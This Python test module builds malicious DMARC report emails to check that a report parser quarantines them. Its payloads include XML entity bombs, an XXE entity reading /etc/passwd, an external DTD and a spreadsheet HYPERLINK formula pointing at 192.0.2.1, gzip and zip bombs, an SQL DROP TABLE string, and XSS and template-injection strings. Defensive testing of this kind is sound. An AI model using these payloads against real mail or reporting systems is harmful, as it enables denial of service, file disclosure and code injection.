"""Mails made to harm whoever reads reports: to exhaust, to mislead, or to run something where they are shown."""

import gzip
import struct
import zlib
from collections.abc import Callable
from dataclasses import replace
from random import Random

from rehearsal.dmarc.written import POLICY, Day, bare, mail, packed, record, report, zipped

QUARANTINED, REPORT, OTHER = "quarantined", "report", "other"
MEGABYTE = 1 << 20
DOCUMENTS = 64
"""As many of one mail are read."""

Attack = tuple[Callable[[], bytes], str, str]
"""How it is made, what becomes of it, and words of the reason."""

_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
_DEEP = 200_000


def bomb(start: bytes, filling: bytes, megabytes: int) -> bytes:
    """gzip of so many megabytes, made without having them: a block that stands for itself, many times.

    Its checksum is not right. Who reads as far as that has lost anyway.
    """
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    head = packer.compress(start) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(filling * (MEGABYTE // len(filling))) + packer.flush(zlib.Z_FULL_FLUSH)
    return head + block * megabytes + packer.flush()


def _dull() -> bytes:
    """What packs well, but not too well to be true."""
    return Random(1).randbytes(2_048).hex().encode()  # noqa: S311


def _many_zip_members() -> bytes:
    return zipped(*((f"{number}.xml", b"<feedback/>") for number in range(500)))


def _zip_bomb() -> bytes:
    return zipped(("a.xml", b"<feedback>" + b"<!---->" * (30 * MEGABYTE // 7)))


def _encrypted_zip(xml: str) -> bytes:
    data = bytearray(zipped(("a.xml", xml.encode())))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.index(mark) + offset
        data[at] |= 1
    return bytes(data)


def _nested_messages(depth: int) -> bytes:
    raw = bare("text/plain", b"x")
    for _ in range(depth):
        raw = bare("message/rfc822", raw)
    return raw


def _nested_multiparts(depth: int) -> bytes:
    raw = "".join(f"Content-Type: multipart/mixed; boundary=b{number}\n\n--b{number}\n" for number in range(depth))
    return b"From: a@example.com\nMIME-Version: 1.0\n" + raw.encode() + b"\na\n" * 10_000


def _directory(entries: int) -> bytes:
    """A zip file that is nothing but a directory, which needs 47 bytes for a file that is not there."""
    listed = struct.pack("<4s4B4HL2L5H2L", b"PK\x01\x02", 20, 0, 20, *[0] * 8, 1, *[0] * 6) + b"a"
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, entries, entries, len(listed) * entries, 4, 0)
    return b"PK\x03\x04" + listed * entries + end


def sent(text: str | bytes) -> Callable[[], bytes]:
    return lambda: mail(packed(text))


def files(day: Day) -> dict[str, Attack]:
    """All of them by name; ours is only performancewest.net."""
    kinds = (_entities, _elements, _packed, _mails, _numbers, _texts, _senders, _broken)
    return {name: attack for kind in kinds for name, attack in kind(day).items()}


def _entities(day: Day) -> dict[str, Attack]:
    """XML that is more than it says."""
    xml = report(day)
    return {
        "billion laughs": (
            lambda: mail(
                packed(f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{_LAUGHS}]><feedback>&l9;</feedback>')
            ),
            QUARANTINED,
            "DOCTYPE",
        ),
        "quadratic entity": (
            sent(f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]><feedback>{"&a;" * 50_000}</feedback>'),
            QUARANTINED,
            "DOCTYPE",
        ),
        "default attributes": (
            lambda: mail(
                packed(
                    "<!DOCTYPE x [<!ATTLIST a "
                    + " ".join(f'b{n} CDATA "{"c" * 50}"' for n in range(2_000))
                    + ">]><feedback>"
                    + "<a/>" * 5_000
                    + "</feedback>"
                )
            ),
            QUARANTINED,
            "DOCTYPE",
        ),
        "file of the machine": (
            lambda: mail(
                packed(
                    '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
                    + xml.partition("?>")[2].replace("google.com<", "&a;<")
                )
            ),
            QUARANTINED,
            "DOCTYPE",
        ),
        "document type from elsewhere": (
            sent('<!DOCTYPE feedback SYSTEM "http://192.0.2.1/x.dtd">' + xml.partition("?>")[2]),
            QUARANTINED,
            "DOCTYPE",
        ),
    }


def _elements(day: Day) -> dict[str, Attack]:
    """XML that has too much of something."""
    return {
        "depth": (
            sent("<feedback>" + "<a>" * _DEEP + "</a>" * _DEEP + "</feedback>"),
            QUARANTINED,
            "deep",
        ),
        "depth of known elements": (sent("<feedback>" + "<record>" * _DEEP), QUARANTINED, "deep"),
        "depth before it": (sent("<a>" * _DEEP), QUARANTINED, "it begins with"),
        "attributes": (
            lambda: mail(packed("<feedback " + " ".join(f'a{n}="x"' for n in range(300_000)) + "/>")),
            QUARANTINED,
            "a tag of over",
        ),
        "one attribute": (lambda: mail(bomb(b'<feedback a="', b"y" * 1024, 40)), QUARANTINED, "a tag of over"),
        "one comment": (lambda: mail(bomb(b"<feedback><!--", b"y" * 1024, 40)), QUARANTINED, "a tag of over"),
        "one text": (lambda: mail(bomb(b"<feedback><version>", b"y" * 1024, 40)), QUARANTINED, "characters"),
        "one text that is passed over": (
            lambda: mail(bomb(b"<feedback><x>", b"y" * 1024, 40)),
            QUARANTINED,
            "characters",
        ),
        "blanks": (lambda: mail(bomb(b"<feedback>", b" " * 1024, 200)), QUARANTINED, "characters"),
        "names": (
            lambda: mail(packed("<feedback>" + "".join(f"<a{n}/>" for n in range(100_000)) + "</feedback>")),
            QUARANTINED,
            "different elements",
        ),
        "bytes that are no text": (
            lambda: mail(packed(b"<feedback>" + (b"<!--" + b"\xff" * 1017 + b"-->") * 2 * 1024)),
            QUARANTINED,
            "no XML",
        ),
    }


def _packed(day: Day) -> dict[str, Attack]:
    """Little that unpacks to much."""
    xml = report(day)
    return {
        "300 megabytes of zeros": (lambda: mail(bomb(b"", bytes(1024), 300)), OTHER, ""),
        "300 megabytes of tags": (
            lambda: mail(bomb(b"<feedback>", b"<a/>" * 256, 300)),
            QUARANTINED,
            "none of a report",
        ),
        "300 megabytes of blanks, packed twice": (
            lambda: mail(gzip.compress(bomb(b"<feedback>", b" " * 1024, 300))),
            QUARANTINED,
            "characters",
        ),
        "packed five times": (
            sent(packed(packed(packed(packed(xml))))),
            QUARANTINED,
            "packed more than",
        ),
        "zip of many": (lambda: mail(_many_zip_members()), QUARANTINED, "files in one zip"),
        "zip bomb": (lambda: mail(_zip_bomb()), QUARANTINED, "times its size"),
        "gzip of many members": (
            lambda: mail(gzip.compress(b"<feedback>") + gzip.compress(b"") * 50_000),
            QUARANTINED,
            "members",
        ),
        "zip with a directory of many": (lambda: mail(_directory(50_000)), QUARANTINED, "files in one zip"),
        "documents that are large together": (
            lambda: mail(
                *(bomb(report(replace(day, number=f"{n}{day.number}")).encode(), _dull(), 90) for n in range(3))
            ),
            QUARANTINED,
            "unpacked in one mail",
        ),
    }


def _mails(day: Day) -> dict[str, Attack]:
    """Mails that are too much for who reads mail."""
    xml = report(day)
    return {
        "parts": (
            lambda: (
                b"From: a@example.com\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=x\n\n"
                + b"--x\n\na\n" * 5_000
                + b"--x--\n"
            ),
            QUARANTINED,
            "parts",
        ),
        "attachments": (
            lambda: mail(*(packed(xml.replace(day.number, f"{day.number}{n}")) for n in range(100))),
            QUARANTINED,
            "documents",
        ),
        "messages in messages": (lambda: _nested_messages(500), QUARANTINED, "within one mail"),
        "multiparts in multiparts": (lambda: _nested_multiparts(500), QUARANTINED, "within one mail"),
        "lines": (lambda: bare("text/plain", b"a\n" * 1_000_000), QUARANTINED, "lines"),
        "parameters": (lambda: bare('multipart/mixed; boundary=x; a="' + ";" * 500_000, b"--x--\n"), OTHER, ""),
        "comments in comments": (
            lambda: bare("text/plain", b"x").replace(
                b"From: ", b"Authentication-Results: x;" + b"(" * 8_000 + b"\nFrom: " + b"(" * 5_000
            ),
            OTHER,
            "",
        ),
    }


def _numbers(day: Day) -> dict[str, Attack]:
    """Values that are none."""

    def metadata(old: str, new: str) -> str:
        return report(day, metadata=day.metadata.replace(old, new))

    return {
        "a span of ages": (sent(metadata(str(day.end), "99999999999")), QUARANTINED, "days"),
        "the year 5000": (
            sent(metadata(str(day.begin), "95617584000").replace(str(day.end), "95617584001")),
            QUARANTINED,
            "out of bounds",
        ),
        "the year 1970": (
            sent(metadata(str(day.begin), "0").replace(str(day.end), "86400")),
            QUARANTINED,
            "out of bounds",
        ),
        "a negative time": (sent(metadata(str(day.begin), "-1")), QUARANTINED, "no time"),
        "a time of a thousand digits": (
            sent(metadata(str(day.begin), "1" * 1_000)),
            QUARANTINED,
            "no time",
        ),
        "a negative count": (sent(report(day, record(count=-5))), REPORT, "count"),
        "a count of thirty digits": (sent(report(day, record(count="9" * 30))), REPORT, "count"),
        "counts that add up": (sent(report(day, record(count=2**31) * 600)), QUARANTINED, "messages"),
        "an address that is SQL": (
            sent(report(day, record("'); DROP TABLE dmarc_record; --"))),
            REPORT,
            "source_ip",
        ),
    }


def _texts(day: Day) -> dict[str, Attack]:
    """Texts, which are kept as they are, and shown as text."""

    def named(text: str) -> Callable[[], bytes]:
        return sent(report(day, metadata=day.metadata.replace("google.com<", f"{text}<")))

    script = "&lt;script&gt;document.title='owned'&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;"
    domain = report(day).replace("<dkim><domain>performancewest.net", "<dkim><domain>&lt;b&gt;x&lt;/b&gt;")
    names = {
        "markup in a name": script,
        "a link in a name": "[click](javascript:document.title='owned') ![x](http://192.0.2.1/x.png)",
        "a table in a name": "a | b |&#10;# Heading&#10;- item",
        "a formula in a name": "=HYPERLINK(&quot;http://192.0.2.1&quot;)",
        "right to left in a name": "\u202egro.live\u202c",
        "a terminal's codes in a name": "\u009b31mred&#133;",
        "a template in a name": "{{ 7*7 }}{% raw %}%s{0}${HOME}",
    }
    return {
        **{name: (named(text), REPORT, "") for name, text in names.items()},
        "a name of a megabyte": (named("x" * MEGABYTE), QUARANTINED, "characters"),
        "markup in a domain": (sent(domain), REPORT, ""),
    }


def _senders(day: Day) -> dict[str, Attack]:
    """Reports about somebody else."""
    return {
        "about somebody else": (
            sent(report(day, policy=POLICY.replace("performancewest.net", "example.org"))),
            QUARANTINED,
            "none of ours",
        ),
        "about a name that ends like ours": (
            sent(report(day, policy=POLICY.replace("performancewest.net", "evilperformancewest.net"))),
            QUARANTINED,
            "none of ours",
        ),
        "records of somebody else": (
            sent(report(day, record(author="example.org"))),
            REPORT,
            "header_from",
        ),
    }


def _broken(day: Day) -> dict[str, Attack]:
    """What is not whole."""
    xml = report(day)
    return {
        "cut off": (lambda: mail(packed(xml)[:-60]), QUARANTINED, "cut off"),
        "cut off in plain": (lambda: mail(xml[:-40].encode(), kind="application/xml"), QUARANTINED, "no XML"),
        "a flipped bit": (lambda: mail(packed(xml)[:40] + b"\xff" + packed(xml)[41:]), QUARANTINED, ""),
        "an encrypted zip": (lambda: mail(_encrypted_zip(xml)), QUARANTINED, "zip"),
        "a zip without its end": (lambda: mail(zipped(("a.xml", xml.encode()))[:-30]), QUARANTINED, "zip"),
        "base64 that is none": (lambda: bare("text/plain", b"H4sIAAAA=AAA=A"), QUARANTINED, ""),
        "no policy": (sent(report(day, policy="")), QUARANTINED, "policy_published"),
        "no metadata": (sent(report(day, metadata="")), QUARANTINED, "report_metadata"),
        "no domain": (
            sent(report(day, policy="<policy_published><p>none</p></policy_published>")),
            QUARANTINED,
            "no domain",
        ),
        "a TLS report of nonsense": (sent('{"policies": ' + "[" * 100_000), QUARANTINED, "TLS"),
        "a failure report without fields": (
            lambda: bare("multipart/report; boundary=x", b"--x\nContent-Type: message/feedback-report\n\n\n--x--\n"),
            QUARANTINED,
            "Feedback-Type",
        ),
    }


def read_in(name: str, verdict: str, words: str) -> int:
    """How many whole reports there are in one of them, which count though the mail may be refused."""
    some = {"attachments": DOCUMENTS, "documents that are large together": 2}
    return some.get(name, int(verdict == REPORT and not words))
